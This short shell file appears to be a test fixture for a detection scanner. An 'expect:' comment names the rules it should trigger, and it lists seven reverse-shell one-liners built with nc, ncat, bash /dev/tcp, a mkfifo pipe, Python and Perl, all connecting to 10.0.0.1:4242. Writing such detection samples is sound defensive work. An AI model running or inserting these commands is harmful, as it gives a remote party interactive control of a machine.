#!/bin/bash
# expect: sh-nc-exec sh-dev-tcp sh-fifo-shell sh-interp-reverse-shell
nc -e /bin/sh 10.0.0.1 4242
ncat 10.0.0.1 4242 -e /bin/bash
bash -i >& /dev/tcp/10.0.0.1/4242 0>&1
exec 5<>/dev/tcp/$HOST/$PORT
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4242,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");'
